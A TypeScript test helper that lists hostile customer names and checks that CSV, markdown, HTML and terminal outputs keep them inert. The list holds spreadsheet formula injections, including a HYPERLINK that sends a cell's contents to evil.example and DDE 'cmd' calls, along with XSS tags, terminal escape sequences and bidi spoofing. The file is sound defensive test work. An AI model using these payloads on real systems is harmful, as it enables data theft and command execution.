// Hostile values and the checks that an output keeps them as data: no spreadsheet formula, no markdown link,
// image, mention or HTML, no terminal control sequence, no extra HTML element. Shared by the format tests.
import { parse as parseCsv } from "csv-parse/sync";
import fc from "fast-check";

/** The customer names of issue 18 §2, and a few more of the same families. */
export const HOSTILE_NAMES: readonly string[] = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click to fix PEC")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("https://evil.example")',
    "[Click to fix PEC](https://evil.example/login) ![x](https://evil.example/p.png)",
    "@org/team",
    "Contoso #1 www.evil.example https://evil.example/a mailto:a@evil.example",
    '<img src="https://evil.example/p.png" onerror="alert(1)"> <script>alert(1)</script> &#64;org',
    "\u001b]0;pwned\u0007 \u001b[31mred\u001b[0m \u009b31m",
    "Evil\u202Egnp.exe \u2066isolate\u2069 \u200Fmark",
    "line\nbreak\r\nand | pipe",
    "`code` **bold** _it_ ~~strike~~ $\\color{red}{x}$ \\[escaped\\]",
    "<!-- --> ```fence``` :+1: [^1]",
];

/** Characters a terminal acts on when written raw (all controls but the line feed, and bidi controls). */
export const TERMINAL_ACTIVE =
    /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069]/;

/** What `escapeControls` shows for a name (re-implemented here, not imported: the test's own expectation). */
export function shownAsEscapes(text: string): string {
    const named: Record<string, string> = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
    return text.replace(
        /[\u0000-\u001F\u007F-\u009F\u061C\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069]/g,
        (c) => named[c] ?? `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`,
    );
}

/** The cells of one markdown table row, split where GFM splits them (a `|` not escaped by a backslash). */
export function markdownCells(row: string): string[] {
    const cells: string[] = [];
    let current = "";
    for (let i = 0; i < row.length; i++) {
        const c = row[i];
        if (c === "\\" && i + 1 < row.length) {
            current += c + row[++i];
        } else if (c === "|") {
            cells.push(current);
            current = "";
        } else current += c;
    }
    cells.push(current);
    return cells.slice(1, -1).map((c) => c.trim());
}

const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/;
const ENTITY = /^&(amp|lt|gt);/;
const DECODED: Record<string, string> = { amp: "&", lt: "<", gt: ">" };

/**
 * Markdown constructs that would act in a table cell's text (CommonMark + GFM + GitHub's post-processing):
 * an unescaped character that starts a link, image, code span, emphasis, strikethrough, HTML, entity, math,
 * autolink or column; an unescaped `www.`; and in the text as rendered, `@name` / `#1` (GitHub mentions and
 * references survive backslashes). Empty when the cell is inert.
 * @param cell the raw markdown of one cell
 */
export function activeMarkdown(cell: string): string[] {
    const found: string[] = [];
    for (let i = 0; i < cell.length; i++) {
        const c = cell[i];
        if (c === "\\") {
            if (i + 1 < cell.length && ASCII_PUNCTUATION.test(cell[i + 1])) i++;
            continue;
        }
        if (c === "&") {
            if (!ENTITY.test(cell.slice(i))) found.push(`raw & at ${i}`);
            continue;
        }
        if ("[]!`*_~<>|$:#@".includes(c)) found.push(`unescaped ${c} at ${i}`);
    }
    if (/www\./i.test(cell)) found.push("www. autolink");
    const shown = markdownDisplay(cell);
    if (/[@#][A-Za-z0-9]/.test(shown)) found.push(`mention or reference in ${JSON.stringify(shown)}`);
    return found;
}

/**
 * The text a markdown cell renders as: backslash escapes and the three entities decoded (zero-width spaces,
 * which break GitHub's mentions, kept).
 * @param cell the raw markdown of one cell
 */
export function markdownDisplay(cell: string): string {
    let out = "";
    for (let i = 0; i < cell.length; i++) {
        const c = cell[i];
        const entity = c === "&" ? ENTITY.exec(cell.slice(i)) : null;
        if (c === "\\" && i + 1 < cell.length && ASCII_PUNCTUATION.test(cell[i + 1])) out += cell[++i];
        else if (entity) {
            out += DECODED[entity[1]];
            i += entity[0].length - 1;
        } else out += c;
    }
    return out;
}

/** The sequence of HTML tags (`p`, `/p`, `td`…) of a page: a name that added an element would change it. */
export function htmlTags(html: string): string[] {
    return [...html.matchAll(/<(\/?[A-Za-z][A-Za-z0-9]*|!DOCTYPE|!--)/g)].map((m) => m[1].toLowerCase());
}

/** HTML text with its character references decoded (`&#60;` → `<`). */
export function htmlText(text: string): string {
    const named: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"' };
    return text.replace(/&(?:#(\d+)|(amp|lt|gt|quot));/g, (_, n: string | undefined, e: string | undefined) =>
        n !== undefined ? String.fromCharCode(Number(n)) : named[e!],
    );
}

/** A cell a spreadsheet would run as a formula (first character `= + - @`, tab, CR, LF, NUL or fullwidth `＝＋－＠`). */
export function isFormula(cell: string): boolean {
    return /^[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}

/** The records of a CSV text as a spreadsheet would split them (csv-parse, RFC 4180). */
export function csvRecords(csv: string): string[][] {
    return parseCsv(csv, { relax_column_count: false });
}

/**
 * One character from the ranges that matter here (fast-check's own "binary" unit is slow to build): ASCII and
 * Latin, C0 and C1 controls, general punctuation (bidi controls, zero-width and line separators) and fullwidth forms.
 */
export const riskyChar: fc.Arbitrary<string> = fc
    .oneof(
        fc.integer({ min: 0, max: 0x24f }),
        fc.integer({ min: 0x2000, max: 0x206f }),
        fc.integer({ min: 0xff00, max: 0xff60 }),
        fc.integer({ min: 0x4e00, max: 0x4e10 }),
    )
    .map((code) => String.fromCharCode(code));

/**
 * The cells a spreadsheet that splits on `delimiter` (`;` or a tab, as Excel does in many locales) could make of a
 * CSV text, read pessimistically: quotes ignored (a field that does not start with one is not quoted there), every
 * line break a new row, leading quotes and spaces dropped.
 * @param csv the CSV text
 * @param delimiter the separator the spreadsheet assumes
 */
export function lenientCells(csv: string, delimiter: string): string[] {
    return csv
        .split(/\r\n|\r|\n/)
        .flatMap((line) => line.split(delimiter))
        .map((cell) => cell.replace(/^[" ]+/, ""));
}
